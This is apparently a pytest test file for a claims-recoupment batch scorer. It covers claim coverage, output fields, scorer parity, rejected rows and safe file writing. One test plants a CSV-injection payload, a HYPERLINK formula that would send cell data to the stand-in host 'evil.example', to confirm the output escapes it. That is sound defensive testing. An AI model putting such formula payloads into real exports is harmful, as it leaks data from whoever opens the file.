"""Batch scoring: every claim accounted for, formats, parity with the scorer, rejected rows."""

from __future__ import annotations

import json
import shutil

import numpy as np
import pandas as pd
import pytest

from features.pipeline import FeatureResult, build_feature_table
from serving import batch
from serving.scorer import Scorer


@pytest.fixture(scope="module")
def window(trained):
    d = trained["history"].claims["submitted_date"]
    lo, hi = d.quantile(0.5), d.quantile(0.8)
    return str(pd.Timestamp(lo).date()), str(pd.Timestamp(hi).date())


@pytest.fixture(scope="module")
def scored_csv(trained, window, tmp_path_factory):
    out = tmp_path_factory.mktemp("score") / "scores.csv"
    summary = batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="top:25")
    return out, summary


def test_every_claim_accounted_for(trained, window, scored_csv):
    out, summary = scored_csv
    df = batch.read_frame(out)
    c = trained["history"].claims
    d = c["submitted_date"]
    expected = set(c.loc[(d >= window[0]) & (d <= window[1]), "claim_id"].astype(str))
    assert summary["read"] == len(df) == summary["scored"] + summary["rejected"]
    assert set(df["claim_id"]) == expected and df["claim_id"].is_unique
    assert list(df.columns) == batch.OUTPUT_COLUMNS
    assert set(df["status"]) <= {"scored", "rejected"}


def test_output_fields(scored_csv):
    df = batch.read_frame(scored_csv[0])
    s = df[df["status"] == "scored"]
    assert s["recoupment_probability"].between(0, 1).all()
    assert set(s["risk_band"]) <= {"low", "medium", "high"}
    causes = s["causes"].map(json.loads)
    assert (causes.map(lambda c: c[0]["cause"]) == s["top_cause"]).all()
    assert causes.map(lambda c: all(a["probability"] >= b["probability"] for a, b in zip(c, c[1:]))).all()
    s["rule_hits"].map(json.loads)  # valid JSON everywhere
    explained = s[s["reasons"] != ""]
    assert len(explained) == min(25, len(s))
    # top:N goes to the rows with the largest expected dollars
    assert (
        explained["expected_recoupment_amount"].min() >= s.loc[s["reasons"] == "", "expected_recoupment_amount"].max()
    )
    assert all(isinstance(json.loads(r), list) and json.loads(r) for r in explained["reasons"])


_NUMBER = r"(\d+(?:\.\d+)?)"


def test_every_reason_states_a_fact_that_raises_the_risk(scored_csv, trained):
    """The sentences of a real model's reasons against their own numbers: a value compared with the typical one
    (the bundle's ``feature_reference``) is the larger, a provider compared with peers bills more, a rare pairing is
    under 5 %, and no count of zero is a reason."""
    import re

    assert trained["result"].bundle.meta["feature_reference"]["n_lines"] >= 1
    df = batch.read_frame(scored_csv[0])
    texts = [r["text"] for cell in df["reasons"] if cell for r in json.loads(cell)]
    assert texts
    for text in texts:
        if m := re.search(
            rf"{_NUMBER}%?[^(]*\((?:typically|a typical claim has|a typical claim's \w+:) {_NUMBER}%?\)$", text
        ):
            assert float(m.group(1)) >= float(m.group(2)), text
        if m := re.search(rf"in {_NUMBER}% of visits vs {_NUMBER}% for peers", text):
            assert float(m.group(1)) > float(m.group(2)), text
        if m := re.search(rf"rarely goes? with .*peers[^)]* {_NUMBER}%", text):
            assert float(m.group(1)) < 5, text
        assert not re.search(r"\b0 (claim|unit|service line|recouped)", text), text


def test_parity_with_scorer(trained, window):
    """Batch numbers, causes, rule hits and reasons equal Scorer.score_features on the same features."""
    history = trained["history"]
    scorer = batch.load_scorer(trained["bundle_dir"])
    bs = batch.score_window(history, scorer, pd.Timestamp(window[0]), pd.Timestamp(window[1]))
    ids = bs.table.index
    batch.add_reasons(bs, scorer, ids[:30])
    got = batch.output_frame(bs).set_index("claim_id")

    feats, _ = build_feature_table(history)  # the full history, no truncation
    pos = feats.X.index.get_indexer(ids)
    claims = history.claims.iloc[pos].reset_index(drop=True)
    ref = Scorer.from_dir(trained["bundle_dir"])
    frame = ref.score_features(
        FeatureResult(X=feats.X.iloc[pos], hits=feats.hits[feats.hits["claim_id"].isin(ids)], lines=feats.lines),
        claims,
        explain=np.isin(ids, ids[:30]),
    )
    for rec in frame.records(ref.model_version):
        row = got.loc[rec["claim_id"]]
        assert row["recoupment_probability"] == rec["recoupment_probability"]
        assert row["expected_recoupment_amount"] == rec["expected_recoupment_amount"]
        assert row["risk_band"] == rec["risk_band"]
        assert json.loads(row["causes"]) == rec["causes"]
        assert json.loads(row["rule_hits"]) == json.loads(json.dumps(rec["rule_hits"], default=str))
        assert (json.loads(row["reasons"]) if row["reasons"] else []) == rec["reasons"]


def test_parquet_round_trip(trained, window, scored_csv, tmp_path):
    out = tmp_path / "scores.parquet"
    batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="top:25")
    a = batch.read_frame(scored_csv[0]).sort_values("claim_id").reset_index(drop=True)
    b = batch.read_frame(out).sort_values("claim_id").reset_index(drop=True)
    assert list(b.columns) == batch.OUTPUT_COLUMNS
    pd.testing.assert_series_equal(a["claim_id"], b["claim_id"])
    np.testing.assert_allclose(a["recoupment_probability"], b["recoupment_probability"])
    np.testing.assert_allclose(a["expected_recoupment_amount"], b["expected_recoupment_amount"])
    assert (a["causes"] == b["causes"]).all() and (a["rule_hits"] == b["rule_hits"]).all()


def test_bad_options(trained, tmp_path):
    from features.errors import RecoupError

    with pytest.raises(RecoupError):
        batch.score_cli(trained["data_dir"], tmp_path / "x.txt")
    with pytest.raises(RecoupError):
        batch.score_cli(trained["data_dir"], tmp_path / "x.csv", explain="top:x")
    with pytest.raises(RecoupError):
        batch.score_cli(trained["data_dir"], tmp_path / "x.csv", since="2024-13-01")


def test_invalid_rows_rejected_or_fatal(trained, tmp_path):
    """A broken directory fails with the contract listing; with skip_invalid the bad claims are listed."""
    from features.contract import ContractError

    d = tmp_path / "data"
    shutil.copytree(trained["data_dir"], d)
    claims = pd.read_csv(d / "claims.csv", dtype=str, keep_default_na=False)
    lines = pd.read_csv(d / "claim_lines.csv", dtype=str, keep_default_na=False)
    last = claims["submitted_date"].max()
    recent = claims.index[claims["submitted_date"] == last][:1]
    bad_claim = claims.loc[recent[0], "claim_id"]
    claims.loc[recent[0], "total_charge"] = "-5"
    bad_line_claim = claims.loc[claims.index[0] if recent[0] != claims.index[0] else claims.index[1], "claim_id"]
    lines.loc[lines["claim_id"] == bad_line_claim, "units"] = "0"
    claims.to_csv(d / "claims.csv", index=False)
    lines.to_csv(d / "claim_lines.csv", index=False)
    with pytest.raises(ContractError):
        batch.score_cli(d, tmp_path / "s.csv", explain="none")
    summary = batch.score_cli(d, tmp_path / "s.csv", explain="none", skip_invalid=True)
    df = batch.read_frame(tmp_path / "s.csv")
    assert summary["rejected"] >= 2 and summary["read"] == len(claims)
    rej = df[df["status"] == "rejected"].set_index("claim_id")
    assert {bad_claim, bad_line_claim} <= set(rej.index)
    assert "total_charge" in rej.loc[bad_claim, "reject_reason"]
    assert "units" in rej.loc[bad_line_claim, "reject_reason"]
    assert set(df["claim_id"]) == set(claims["claim_id"])


# ------------------------------------------------------------------------------------------ output written safely
FORMULA_ID = '=HYPERLINK("http://evil.example/?d="&B2,"open me")'


def test_formula_claim_id_is_escaped_in_the_scores_csv(trained, tmp_path):
    """A claim id a spreadsheet would run (CSV injection) is written as text; numbers stay numbers; the
    escape is undone by read_frame. skip_invalid: scored or rejected, the id is in the output either way."""
    d = tmp_path / "data"
    shutil.copytree(trained["data_dir"], d)
    claims = pd.read_csv(d / "claims.csv", dtype=str, keep_default_na=False)
    old = claims.loc[claims["submitted_date"].idxmax(), "claim_id"]
    for name in ("claims.csv", "claim_lines.csv", "recoupments.csv"):
        t = pd.read_csv(d / name, dtype=str, keep_default_na=False)
        t.loc[t["claim_id"] == old, "claim_id"] = FORMULA_ID
        t.to_csv(d / name, index=False)
    out = tmp_path / "s.csv"
    batch.score_cli(d, out, since=claims["submitted_date"].max(), explain="none", skip_invalid=True)
    text = out.read_text()
    assert "\"'=HYPERLINK(" in text and '\n"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    raw = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert not raw["claim_id"].str.match(r"[=+\-@\t\r]").any()
    scored = raw[raw["status"] == "scored"]
    assert pd.to_numeric(scored["recoupment_probability"]).between(0, 1).all()  # still numbers
    assert FORMULA_ID in set(batch.read_frame(out)["claim_id"])


def test_unwritable_or_foreign_out_is_refused_before_scoring(trained, tmp_path):
    from features.errors import RecoupError

    (tmp_path / "afile").write_text("x")
    with pytest.raises(RecoupError, match=r"^cannot write .*afile/s\.csv: .*afile is a file, not a folder$"):
        batch.score_cli(trained["data_dir"], tmp_path / "afile" / "s.csv", explain="none")
    theirs = tmp_path / "claims.csv"
    shutil.copy(trained["data_dir"] / "claims.csv", theirs)
    before = theirs.read_bytes()
    with pytest.raises(RecoupError, match="exists and is not an earlier output of this command"):
        batch.score_cli(trained["data_dir"], theirs, explain="none")
    assert theirs.read_bytes() == before
    real = tmp_path / "real.csv"
    real.write_text("keep")
    (tmp_path / "link.csv").symlink_to(real)
    with pytest.raises(RecoupError, match="symbolic link"):
        batch.score_cli(trained["data_dir"], tmp_path / "link.csv", explain="none", overwrite=True)
    assert real.read_text() == "keep"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["afile", "claims.csv", "link.csv", "real.csv"]


def test_own_output_replaced_foreign_file_only_with_overwrite(trained, window, scored_csv, tmp_path):
    out = tmp_path / "s.parquet"
    out.write_bytes(b"someone else's file")
    with pytest.raises(Exception, match="--overwrite"):
        batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none")
    batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none", overwrite=True)
    assert batch.is_score_output(out)
    batch.score_cli(trained["data_dir"], out, since=window[0], until=window[1], explain="none")  # its own
    csv_out = tmp_path / "again.csv"
    shutil.copy(scored_csv[0], csv_out)
    assert batch.is_score_output(csv_out)
    batch.score_cli(trained["data_dir"], csv_out, since=window[0], until=window[1], explain="none")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["again.csv", "s.parquet"]
